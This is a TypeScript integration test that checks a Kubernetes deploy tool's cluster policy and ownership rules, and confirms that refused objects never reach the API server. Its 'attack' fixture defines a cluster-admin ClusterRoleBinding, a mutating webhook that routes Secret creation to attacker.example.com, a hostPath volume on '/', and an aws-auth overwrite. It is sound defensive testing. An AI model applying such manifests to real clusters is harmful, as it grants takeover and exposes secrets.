import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { KubeConfig } from "@kubernetes/client-node";
import { after, before, describe, it } from "node:test";
import { createClusterClient } from "../../src/cluster/create-cluster-client.js";
import { deployEnvironment, type DeployManifest } from "../../src/reconcile/deploy-environment.js";
import { planLive } from "../../src/reconcile/plan-live.js";
import type { KubeObject } from "../../src/cluster/cluster-client.js";
import type { ClusterPolicy } from "../../src/core/policy/cluster-policy.js";
import { withSlipwayMetadata } from "../../src/core/plan/with-slipway-metadata.js";
import { renderPlanCheck } from "../../src/core/report/render-plan-check.js";
import { renderPlanComment } from "../../src/core/report/render-plan-comment.js";
import { NotFoundError } from "../../src/cluster/cluster-error.js";
import { startRecordingClusterProxy, type RecordingClusterProxy } from "../support/recording-cluster-proxy.js";
import { createTestNamespace, testClusterClient, type TestNamespace } from "../support/test-cluster.js";

// The clusters file's policy and object ownership, enforced by the live planner and the deploy
// against the real API server; a proxy records every request that reached it.
const plantedAwsAuth = "arn:aws:iam::111122223333:role/planted-aws-auth";
const plantedOther = "planted-other-environment-value";

describe("cluster policy and ownership against the test cluster", () => {
  const admin = testClusterClient();
  const suffix = randomBytes(3).toString("hex");
  let proxy: RecordingClusterProxy;
  let ns: TestNamespace;
  let environmentId: string;
  const otherEnvironmentId = `test.billing.other-${suffix}`;
  const strayNamespace = `policy-stray-${suffix}`;
  let policy: ClusterPolicy;
  const client = () => {
    const kubeConfig = new KubeConfig();
    kubeConfig.loadFromFile(proxy.kubeconfigPath);
    return createClusterClient(kubeConfig, { retry: { retries: 0 } });
  };

  const refused = {
    binding: `slipway-takeover-${suffix}`,
    webhook: `slipway-webhook-${suffix}`,
    volume: `slipway-host-${suffix}`,
  };
  const attack = (): Array<Record<string, unknown>> => [
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "ClusterRoleBinding",
      metadata: { name: refused.binding },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "ServiceAccount", name: "default", namespace: ns.name }],
    },
    {
      apiVersion: "admissionregistration.k8s.io/v1",
      kind: "MutatingWebhookConfiguration",
      metadata: { name: refused.webhook },
      webhooks: [
        {
          name: `steal.${suffix}.example.com`,
          clientConfig: { url: "https://attacker.example.com/mutate" },
          rules: [{ operations: ["CREATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["secrets"] }],
          sideEffects: "None",
          admissionReviewVersions: ["v1"],
        },
      ],
    },
    {
      apiVersion: "v1",
      kind: "PersistentVolume",
      metadata: { name: refused.volume },
      spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" } },
    },
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "aws-auth", namespace: "kube-system" }, data: { mapRoles: "attacker" } },
    { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: `denied-${suffix}` }, rules: [] },
  ];
  const aboutRefused = (url: string) =>
    url.includes(refused.binding) ||
    url.includes(refused.webhook) ||
    url.includes(refused.volume) ||
    url.includes("kube-system") ||
    url.includes(`denied-${suffix}`) ||
    /\/(clusterrolebindings|mutatingwebhookconfigurations|persistentvolumes|roles)\b/.test(url);
  const manifests = (objects: Array<Record<string, unknown>>): DeployManifest[] => objects.map((object, i) => ({ object, file: `deploy/${i}.yaml`, line: 1 }));

  before(async () => {
    proxy = await startRecordingClusterProxy();
    ns = await createTestNamespace("policy", admin);
    environmentId = `test.policy.${ns.name}`;
    policy = { namespaces: [ns.name], clusterResources: ["Namespace"], deniedKinds: ["rbac.authorization.k8s.io/Role"] };
    // Made by hand (no Slipway labels), by another environment, and by this one.
    await admin.apply(
      { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "aws-auth", namespace: ns.name }, data: { mapRoles: plantedAwsAuth } },
      { dryRun: false },
    );
    await admin.apply(
      withSlipwayMetadata(
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "theirs", namespace: ns.name }, data: { token: plantedOther } },
        { environmentId: otherEnvironmentId },
      ) as KubeObject,
      { dryRun: false },
    );
    await admin.apply(
      withSlipwayMetadata(
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "mine", namespace: ns.name }, data: { a: "1" } },
        { environmentId, sourceSha: "aaaa" },
      ) as KubeObject,
      { dryRun: false },
    );
  });

  after(async () => {
    await proxy?.close();
    await admin.delete({ apiVersion: "v1", kind: "Namespace", name: strayNamespace }, { dryRun: false }).catch(() => undefined);
    await ns?.cleanup();
  });

  it("a plan rejects what the policy refuses without a single request about it", async () => {
    const before = proxy.requests.length;
    const plan = await planLive({
      cluster: client(),
      environment: "staging",
      environmentId,
      namespace: ns.name,
      manifests: manifests(attack()),
      prune: true,
      policy,
    });
    assert.deepEqual(
      plan.objects.filter((o) => !o.rejection).map((o) => `${o.action} ${o.ref.name}`),
      ["delete mine"],
      "prune still sees what the policy allows",
    );
    const rejections = plan.objects
      .filter((o) => o.rejection)
      .map((o) => `${o.ref.kind} ${o.ref.name}: ${o.rejection?.reason} ${o.rejection?.message}`)
      .sort();
    assert.deepEqual(rejections, [
      `ClusterRoleBinding ${refused.binding}: not-allowed cluster-scoped kind not allowed: rbac.authorization.k8s.io/ClusterRoleBinding (clusterResources: Namespace)`,
      `ConfigMap aws-auth: not-allowed namespace kube-system is not allowed for this cluster (allowed: ${ns.name})`,
      `MutatingWebhookConfiguration ${refused.webhook}: not-allowed cluster-scoped kind not allowed: admissionregistration.k8s.io/MutatingWebhookConfiguration (clusterResources: Namespace)`,
      `PersistentVolume ${refused.volume}: not-allowed cluster-scoped kind not allowed: PersistentVolume (clusterResources: Namespace)`,
      `Role denied-${suffix}: not-allowed kind denied on this cluster: rbac.authorization.k8s.io/Role (deniedKinds: rbac.authorization.k8s.io/Role)`,
    ]);
    assert.equal(renderPlanCheck(plan).conclusion, "failure");
    const sent = proxy.requests.slice(before);
    assert.ok(sent.length > 0, "discovery and the lists of allowed kinds reached the server");
    assert.deepEqual(
      sent.filter((r) => aboutRefused(r.url)),
      [],
      "no request about a refused object or kind",
    );
    assert.ok(!sent.some((r) => r.method === "PATCH"), "not even a dry run");
  });

  it("a plan never shows an object this environment does not own, and fails unless adopt is on (never for another environment's)", async () => {
    const desired = manifests([
      { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "aws-auth" }, data: { mapRoles: "attacker" } },
      { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "theirs" }, data: { token: "mine-now" } },
      { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "mine" }, data: { a: "2" } },
    ]);
    const before = proxy.requests.length;
    const plan = await planLive({ cluster: client(), environment: "staging", environmentId, namespace: ns.name, manifests: desired, prune: false, policy });
    const reads = proxy.requests.slice(before).filter((r) => r.method === "GET" && /\/configmaps\/(aws-auth|theirs)\b/.test(r.url));
    assert.deepEqual(reads, [], "owners come from a metadata-only list; the objects themselves are not read");
    const byName = Object.fromEntries(plan.objects.map((o) => [o.ref.name, o]));
    assert.equal(byName["aws-auth"]!.rejection?.reason, "not-owned");
    assert.match(byName["aws-auth"]!.rejection!.message, /^exists, not managed by this environment \(it has no Slipway labels\)/);
    assert.equal(
      byName.theirs!.rejection?.message,
      `exists, not managed by this environment: it belongs to Slipway environment ${otherEnvironmentId}, and another environment's object is never taken over`,
    );
    assert.equal(byName.mine!.action, "update");
    const check = renderPlanCheck(plan);
    assert.equal(check.conclusion, "failure");
    const shown = JSON.stringify([plan, check, renderPlanComment({ plans: [plan], headSha: "f".repeat(40), plannedAt: new Date(0), checkRunUrls: {} })]);
    assert.ok(!shown.includes(plantedAwsAuth) && !shown.includes("111122223333"), "the unowned object is not shown by value");
    assert.ok(!shown.includes(plantedOther), "the other environment's object is not shown by value");

    const adopted = await planLive({
      cluster: client(),
      environment: "staging",
      environmentId,
      namespace: ns.name,
      manifests: desired,
      prune: false,
      policy,
      adopt: true,
    });
    const adoptedByName = Object.fromEntries(adopted.objects.map((o) => [o.ref.name, o]));
    assert.equal(adoptedByName["aws-auth"]!.rejection, undefined);
    assert.match(adoptedByName["aws-auth"]!.diff, /mapRoles/);
    assert.equal(adoptedByName.theirs!.rejection?.reason, "not-owned");
  });

  it("a deploy refuses, before any write, what the policy refuses and what another environment owns", async () => {
    const before = proxy.requests.length;
    const result = await deployEnvironment({
      client: client(),
      environmentId,
      sha: "b".repeat(40),
      objects: manifests(attack()),
      namespaceDefault: ns.name,
      prune: true,
      healthTimeoutMs: 0,
      dryRun: false,
      policy,
    });
    assert.equal(result.status, "failed");
    assert.equal(result.status === "failed" ? result.failures.length : 0, 5);
    const sent = proxy.requests.slice(before);
    assert.deepEqual(
      sent.filter((r) => aboutRefused(r.url)),
      [],
    );
    assert.ok(!sent.some((r) => r.method !== "GET"), "nothing written");

    const taken = await deployEnvironment({
      client: client(),
      environmentId,
      sha: "c".repeat(40),
      objects: manifests([
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "mine" }, data: { a: "3" } },
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "theirs" }, data: { token: "mine-now" } },
      ]),
      namespaceDefault: ns.name,
      prune: false,
      healthTimeoutMs: 0,
      dryRun: false,
      policy,
      adopt: true,
    });
    assert.equal(taken.status, "failed");
    assert.equal(
      taken.status === "failed" ? taken.reason : "",
      `ConfigMap ${ns.name}/theirs exists, not managed by this environment: it belongs to Slipway environment ${otherEnvironmentId}, and another environment's object is never taken over`,
    );
    const theirs = await admin.get({ apiVersion: "v1", kind: "ConfigMap", namespace: ns.name, name: "theirs" });
    assert.equal((theirs as { data?: Record<string, string> }).data?.token, plantedOther, "the other environment's object is untouched");
    assert.equal(theirs.metadata.labels?.["slipway.dev/environment"], otherEnvironmentId);
    const mine = await admin.get({ apiVersion: "v1", kind: "ConfigMap", namespace: ns.name, name: "mine" });
    assert.equal((mine as { data?: Record<string, string> }).data?.a, "1", "refused before anything was written");
  });

  it("a deploy adopts an unlabelled object only with adopt", async () => {
    const objects = manifests([{ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "aws-auth" }, data: { mapRoles: "reviewed" } }]);
    const base = {
      client: client(),
      environmentId,
      sha: "d".repeat(40),
      objects,
      namespaceDefault: ns.name,
      prune: false,
      healthTimeoutMs: 0,
      dryRun: false,
      policy,
    };
    const refusedDeploy = await deployEnvironment(base);
    assert.equal(refusedDeploy.status, "failed");
    assert.match(
      refusedDeploy.status === "failed" ? refusedDeploy.reason : "",
      /aws-auth exists, not managed by this environment \(it has no Slipway labels\); set `adopt: true`/,
    );
    const adopted = await deployEnvironment({ ...base, adopt: true });
    assert.equal(adopted.status, "succeeded");
    const live = await admin.get({ apiVersion: "v1", kind: "ConfigMap", namespace: ns.name, name: "aws-auth" });
    assert.equal(live.metadata.labels?.["slipway.dev/environment"], environmentId);
  });

  it("prune never deletes what the policy no longer allows", async () => {
    // An earlier deploy, under a wider policy, made a Namespace and a ConfigMap in it.
    await admin.apply(withSlipwayMetadata({ apiVersion: "v1", kind: "Namespace", metadata: { name: strayNamespace } }, { environmentId }) as KubeObject, {
      dryRun: false,
    });
    await admin.apply(
      withSlipwayMetadata(
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "stray", namespace: strayNamespace }, data: { a: "1" } },
        { environmentId },
      ) as KubeObject,
      { dryRun: false },
    );
    const before = proxy.requests.length;
    const result = await deployEnvironment({
      client: client(),
      environmentId,
      sha: "e".repeat(40),
      objects: manifests([
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "mine" }, data: { a: "1" } },
        { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "aws-auth" }, data: { mapRoles: "reviewed" } },
      ]),
      namespaceDefault: ns.name,
      prune: true,
      pruneGuard: { maxShare: 1 },
      healthTimeoutMs: 0,
      dryRun: false,
      policy,
    });
    assert.equal(result.status, "succeeded", JSON.stringify(result));
    assert.deepEqual(result.pruned, []);
    assert.deepEqual(
      proxy.requests.slice(before).filter((r) => r.url.includes(strayNamespace)),
      [],
    );
    const stray = await admin
      .get({ apiVersion: "v1", kind: "ConfigMap", namespace: strayNamespace, name: "stray" })
      .catch((error: unknown) => (error instanceof NotFoundError ? undefined : Promise.reject(error)));
    assert.ok(stray, "the ConfigMap in the namespace the policy no longer allows is still there");

    const plan = await planLive({
      cluster: client(),
      environment: "staging",
      environmentId,
      namespace: ns.name,
      manifests: manifests([]),
      prune: true,
      policy,
    });
    assert.deepEqual(
      plan.objects
        .filter((o) => o.action === "delete")
        .map((o) => o.ref.name)
        .sort(),
      ["aws-auth", "mine"],
      "the plan prunes only what the policy allows",
    );
  });
});
